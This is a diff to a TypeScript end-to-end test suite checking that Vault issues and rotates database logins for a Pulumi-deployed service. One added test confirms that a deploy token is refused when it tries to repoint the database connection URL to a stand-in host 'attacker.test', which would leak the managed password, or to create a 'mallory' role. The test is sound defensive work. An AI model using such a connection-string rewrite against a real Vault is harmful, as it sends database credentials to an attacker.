@@ -1,5 +1,6 @@
 import assert from "node:assert/strict";
 import { times } from "../support/depth";
+import { mustBootstrap, rootToken } from "./support/bootstrap";
 import { connectTo, medianAndWorst, takenIn } from "./support/database";
 import { startLoad, type Load } from "./support/load";
 import { digestsOf } from "./support/replicas";
@@ -20,6 +21,8 @@ describe("journey: Vault makes the logins to the database, while clients go on s
   let staticLogin: Login;
 
   const up = async (credentials: "static" | "dynamic") => {
+    // Vault's administrator decides to which server Vault talks.
+    await mustBootstrap(sandbox(), { stack: { databaseCredentials: credentials } });
     const { code, output } = await sandbox().pulumi([
       ...["up", "--yes", "--skip-preview", "--config", `audit:databaseCredentials=${credentials}`],
     ]);
@@ -98,6 +101,20 @@ describe("journey: Vault makes the logins to the database, while clients go on s
     );
   });
 
+  it("lets a deploy hand over that login's password, and say nothing else about it", async () => {
+    const config = "database/config/audit-svc";
+    for (const body of [
+      { connection_url: "postgresql://{{username}}:{{password}}@attacker.test:5432/audit?sslmode=disable" },
+      { password: "x", username: "postgres" },
+      { plugin_name: "mysql-database-plugin" },
+    ]) {
+      await assert.rejects(sandbox().vault("POST", config, body), /403/, JSON.stringify(body));
+    }
+    const statements = { db_name: "audit-svc", creation_statements: ["CREATE ROLE mallory LOGIN"] };
+    await assert.rejects(sandbox().vault("POST", rolePath, statements), /403/);
+    await assert.rejects(sandbox().vault("GET", "database/creds/audit-svc"), /403/);
+  });
+
   it("changes nothing at the second up", async () => {
     const { code, output } = await sandbox().pulumi(["up", "--yes", "--skip-preview", "--expect-no-changes"]);
     assert.equal(code, 0, output);
@@ -120,7 +137,7 @@ describe("journey: Vault makes the logins to the database, while clients go on s
   it("changes them by itself at the end of their life, and loses no request by it", async () => {
     const role = await sandbox().vault<{ data: object }>("GET", rolePath);
     assert.ok(role);
-    await sandbox().vault("POST", rolePath, { ...role.data, default_ttl: 10, max_ttl: 10 });
+    await sandbox().vault("POST", rolePath, { ...role.data, default_ttl: 10, max_ttl: 10 }, rootToken());
     send();
     const seconds: number[] = [];
     try {
@@ -142,7 +159,7 @@ describe("journey: Vault makes the logins to the database, while clients go on s
         seconds.push((await takenIn(sandbox())) / 1000 - Number(last.split("-").at(-1)));
       }
     } finally {
-      await sandbox().vault("POST", rolePath, { ...role.data });
+      await sandbox().vault("POST", rolePath, { ...role.data }, rootToken());
       // The next login has the long life again.
       await sandbox().docker("restart", "audit-svc-agent");
       const stored = await nothingLost();
@@ -167,6 +184,10 @@ describe("journey: Vault makes the logins to the database, while clients go on s
     assert.notEqual(login.password, staticLogin.password);
     assert.deepEqual(await rolesIn("v-approle-%"), []);
     assert.deepEqual(await rolesIn("audit_vault"), []);
-    assert.equal(await sandbox().vault("GET", rolePath), undefined);
+    await assert.rejects(
+      sandbox().vault("GET", "database/creds/audit-svc", undefined, rootToken()),
+      /failed|error/,
+      "what bootstrap made has no login to the database any more",
+    );
   });
 });
